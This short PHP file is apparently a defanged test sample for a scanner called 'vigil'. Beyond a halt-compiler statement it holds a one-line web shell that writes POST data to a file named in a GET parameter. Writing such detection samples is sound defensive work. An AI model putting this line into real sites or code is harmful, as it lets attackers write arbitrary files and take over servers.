<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
file_put_contents($_GET['n'], $_POST['d']);
